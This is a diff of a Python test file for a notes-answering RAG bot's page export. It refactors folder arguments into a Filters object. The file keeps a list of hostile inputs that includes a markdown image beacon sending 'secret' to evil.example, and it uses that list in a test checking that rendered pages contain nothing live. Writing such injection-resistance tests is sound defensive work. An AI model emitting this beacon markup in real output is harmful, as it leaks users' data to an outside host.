@@ -21,11 +21,12 @@ from rag_bot.records import (
     UNSUPPORTED,
     Citation,
     Difference,
+    Filters,
     Place,
     Sentence,
     marks_words,
 )
-from tests.conversations.samples import ASKED, exchange, quote, quoted, written
+from tests.conversations.samples import ASKED, EVERYWHERE, exchange, quote, quoted, written
 
 HOSTILE = (
     "![beacon](http://evil.example/?q=secret)",
@@ -62,7 +63,7 @@ def _shown(html: str) -> str:
 
 
 def test_the_page_has_question_quote_place_and_circumstances() -> None:
-    page = _page(exchange("k", "When is the rent due?", "- On the third.", folder="notes/flat"))
+    page = _page(exchange("k", "When is the rent due?", "- On the third.", filters=Filters(folder="notes/flat")))
     assert (
         page
         == """# Rent
@@ -91,7 +92,7 @@ def test_prose_has_its_marks_warnings_model_notice_and_what_was_searched_for() -
     )
     answer = written("And when?", *sentences, lines=("On the third.", "Monthly."))
     answer = replace(answer, searched_for="When is the rent due?", notice="It broke off.", draft="And so")
-    page = _page(SavedExchange("k", "And when?", "", answer, ASKED))
+    page = _page(SavedExchange("k", "And when?", EVERYWHERE, answer, ASKED))
     assert "Mode: prose, written by ollama:qwen3, each sentence checked against the notes." in page
     assert "\n\nSearched for: When is the rent due?\n\nNotice: It broke off.\n\nYour notes say:\n" in page
     assert (
@@ -104,15 +105,17 @@ def test_prose_has_its_marks_warnings_model_notice_and_what_was_searched_for() -
 
 
 def test_a_support_that_this_version_does_not_know_is_not_shown_as_supported() -> None:
-    page = _page(SavedExchange("k", "q", "", written("q", Sentence("It is so.", (), "contested")), ASKED))
+    page = _page(SavedExchange("k", "q", EVERYWHERE, written("q", Sentence("It is so.", (), "contested")), ASKED))
     assert "⚠ not checked: It is so." in page
 
 
 def test_quotes_after_a_model_failed_name_it_and_an_abstaining_answer_the_nearest_passages() -> None:
     answer = replace(quoted("q", "A line."), model="openai:gpt", notice="openai:gpt did not answer.")
-    assert "Mode: quotes, lines of the notes, after openai:gpt was asked." in _page(SavedExchange("k", "q", "", answer))
+    assert "Mode: quotes, lines of the notes, after openai:gpt was asked." in _page(
+        SavedExchange("k", "q", EVERYWHERE, answer)
+    )
     near = (Place("notes/b.md", "Flat", ("Keys",), 3, 4, 0.2),)
-    page = _page(SavedExchange("k", "q", "", quoted("q"), ASKED, near))
+    page = _page(SavedExchange("k", "q", EVERYWHERE, quoted("q"), ASKED, near))
     assert "\n\nAsked 2026-11-03 14:05. The notes don't answer it.\n\nThis is not in your notes.\n" in page
     assert "Mode:" not in page
     assert "\nThe nearest passages, which may not answer it:\n\n- notes/b.md:3-4 — Flat › Keys" in page
@@ -121,25 +124,27 @@ def test_quotes_after_a_model_failed_name_it_and_an_abstaining_answer_the_neares
 def test_what_the_lines_are_worth_and_how_they_differ_stands_above_them() -> None:
     lines = quoted("How much?", "It is 7.50.", "It is 6.90.")
     differs = (Difference((1, 2), ("7.50", "6.90"), ("2026-01-02", "")),)
-    page = _page(SavedExchange("k", "q", "", replace(lines, verdict=CLOSEST, differences=differs), ASKED))
+    page = _page(SavedExchange("k", "q", EVERYWHERE, replace(lines, verdict=CLOSEST, differences=differs), ASKED))
     said = (
         "Your notes come near this; these lines may not answer it.",
         "Your notes differ: 7.50 [1] (2026-01-02), 6.90",
     )
     places = [_shown(_html(page)).index(words) for words in (*said, "It is 7.50.")]
     assert places == sorted(places)
-    assert "differ" not in _page(SavedExchange("k", "q", "", lines, ASKED))
+    assert "differ" not in _page(SavedExchange("k", "q", EVERYWHERE, lines, ASKED))
 
 
 def test_a_row_of_a_table_has_the_heads_of_its_columns_with_its_place() -> None:
     row = replace(quote("| Berta | 9.8 |"), context=("Hive | Honey",))
     answer = replace(quoted("q"), verdict=ANSWERED, citations=(Citation(1, row),))
-    assert r"[1] notes/a.md:12-15 — Rent › Flat › Hive \| Honey" in _page(SavedExchange("k", "q", "", answer, ASKED))
+    assert r"[1] notes/a.md:12-15 — Rent › Flat › Hive \| Honey" in _page(
+        SavedExchange("k", "q", EVERYWHERE, answer, ASKED)
+    )
 
 
 def test_a_citation_whose_note_has_changed_says_so() -> None:
     answer = replace(quoted("q"), citations=(Citation(1, quote("A line."), "deleted"),))
-    assert "Flat (the note is no longer there)" in _page(SavedExchange("k", "q", "", answer, ASKED))
+    assert "Flat (the note is no longer there)" in _page(SavedExchange("k", "q", EVERYWHERE, answer, ASKED))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -150,10 +155,9 @@ def test_nothing_in_the_page_is_live_whatever_was_asked_noted_or_written(text: s
     cited = quote(text, path=f"notes/{text}.md", title=text, headings=(text,))
     answer = replace(answer, citations=(Citation(1, cited),))
     near = (Place(text, text, (text,), 1, 1),)
-    page = _page(
-        *(SavedExchange("a", text, text, answer, ASKED, near), SavedExchange("b", "q", "", quoted("q", text), text)),
-        title=text,
-    )
+    first = SavedExchange("a", text, Filters(text, text), answer, ASKED, near)
+    second = SavedExchange("b", "q", EVERYWHERE, quoted("q", text), text)
+    page = _page(first, second, title=text)
     html = _html(page, kind)
     assert _tags(html) <= OURS
     assert html.count("<h1>") == 1
@@ -193,7 +197,7 @@ def test_a_heading_shows_the_whole_question(text: str) -> None:
 
 
 def _prose_page(*sentences: Sentence) -> str:
-    return _page(SavedExchange("k", "q", "", written("q", *sentences, lines=("On the third.",)), ASKED))
+    return _page(SavedExchange("k", "q", EVERYWHERE, written("q", *sentences, lines=("On the third.",)), ASKED))
 
 
 def test_code_stands_in_a_fence_to_be_copied_with_its_marks_below_and_prose_goes_on_after_it() -> None:
